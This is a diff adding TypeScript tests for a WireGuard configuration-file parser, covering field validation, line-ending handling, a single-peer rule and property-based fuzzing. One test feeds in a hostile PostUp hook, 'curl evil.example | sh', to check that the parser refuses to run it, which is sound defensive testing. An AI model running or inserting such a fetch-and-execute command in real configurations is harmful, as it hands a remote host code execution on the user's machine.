@@ -1,0 +1,115 @@
+import { describe, expect, it } from '@jest/globals';
+import fc from 'fast-check';
+
+import { ConfigurationError } from '../../kit/errors.ts';
+
+import { isHost, parseWireguardFile } from './wireguard-config.ts';
+
+const key = Buffer.alloc(32, 7).toString('base64');
+const other = Buffer.alloc(32, 9).toString('base64');
+
+function file(changes: Readonly<Record<string, string | undefined>> = {}): string {
+  const fields = {
+    PrivateKey: key,
+    Address: '10.64.0.9/32, fc00:bbbb::9/128',
+    DNS: '10.64.0.1',
+    PublicKey: other,
+    AllowedIPs: '0.0.0.0/0, ::/0',
+    Endpoint: '198.18.0.2:51820',
+    ...changes,
+  };
+  const line = ([name, value]: [string, string | undefined]): string =>
+    value === undefined ? '' : `${name} = ${value}\n`;
+  const all = Object.entries(fields);
+  const isPeer = ([name]: [string, unknown]): boolean =>
+    ['PublicKey', 'PresharedKey', 'AllowedIPs', 'Endpoint', 'PersistentKeepalive'].includes(name);
+  return `# from the provider\n[Interface]\n${all
+    .filter((entry) => !isPeer(entry))
+    .map(line)
+    .join('')}\n[Peer]\n${all.filter(isPeer).map(line).join('')}`;
+}
+
+describe('a provider’s file', () => {
+  it('is read', () => {
+    expect(parseWireguardFile(file({ MTU: '1380', PresharedKey: other }))).toEqual({
+      ours: { privateKey: key, addresses: ['10.64.0.9/32'], dns: ['10.64.0.1'], mtu: 1380 },
+      server: { name: '198.18.0.2', host: '198.18.0.2', port: 51_820, publicKey: other, presharedKey: other },
+      ignored: ['IPv6 in Address is left out: nothing goes out by IPv6.'],
+    });
+  });
+
+  it('is read with Windows’ line ends, without prefix lengths, in any case', () => {
+    const text = file({ Address: '10.64.0.9' }).toLowerCase().replaceAll(key.toLowerCase(), key);
+    const { ours } = parseWireguardFile(text.replaceAll(other.toLowerCase(), other).replaceAll('\n', '\r\n'));
+    expect(ours.addresses).toEqual(['10.64.0.9/32']);
+  });
+
+  it('has nothing in it that is run', () => {
+    const { ignored } = parseWireguardFile(file({ PostUp: 'curl evil.example | sh', Table: 'off' }));
+    expect(ignored).toEqual(
+      expect.arrayContaining([expect.stringMatching(/^PostUp \(line \d+\) is not done/)]),
+    );
+  });
+
+  it.each([
+    [{ PrivateKey: undefined }, 'has no PrivateKey'],
+    [{ PrivateKey: 'short' }, /PrivateKey \(line 3 .*5 characters/],
+    [{ PublicKey: key.slice(1) }, 'is no key: 43 characters'],
+    [{ PresharedKey: 'x' }, 'PresharedKey'],
+    [{ Address: 'fc00::1/128' }, 'has no IPv4 Address'],
+    [{ Address: '10.0.0.1/33' }, 'holds what is no address'],
+    [{ DNS: undefined }, 'has no IPv4 DNS'],
+    [{ Endpoint: undefined }, 'has no Endpoint'],
+    [{ Endpoint: '[2001:db8::1]:51820' }, 'IPv6 is not done'],
+    [{ Endpoint: 'vpn.example.org:0' }, 'is to be name:port'],
+    [{ Endpoint: '999.1.1.1:51820' }, 'is to be name:port'],
+    [{ MTU: '100' }, 'MTU'],
+  ])('%j is answered', (changes, sentence) => {
+    expect(() => parseWireguardFile(file(changes))).toThrow(sentence);
+  });
+
+  it('has one peer', () => {
+    expect(() => parseWireguardFile(`${file()}[Peer]\nPublicKey = ${other}\n`)).toThrow('2 times [Peer]');
+  });
+
+  it('is a mistake or a tunnel, whatever it holds', () => {
+    const word = fc.oneof(
+      fc.constantFrom(
+        '[Interface]',
+        '[Peer]',
+        'PrivateKey',
+        '=',
+        '\n',
+        'Endpoint',
+        ':',
+        key,
+        '10.0.0.1',
+        ',',
+        '#',
+      ),
+      fc.string(),
+    );
+    fc.assert(
+      fc.property(fc.array(word, { maxLength: 40 }), (words) => {
+        try {
+          expect(parseWireguardFile(words.join(' ')).ours.addresses.length).toBeGreaterThan(0);
+        } catch (error) {
+          expect(error).toBeInstanceOf(ConfigurationError);
+          expect(String(error)).not.toContain(key);
+        }
+      }),
+    );
+  });
+});
+
+it.each([
+  ['vpn.example.org', true],
+  ['10.0.0.1', true],
+  ['10.0.0', false],
+  ['-x.example', false],
+  ['a b', false],
+  ['', false],
+  ['x'.repeat(64), false],
+])('%j is a host: %j', (text, expected) => {
+  expect(isHost(text)).toBe(expected);
+});
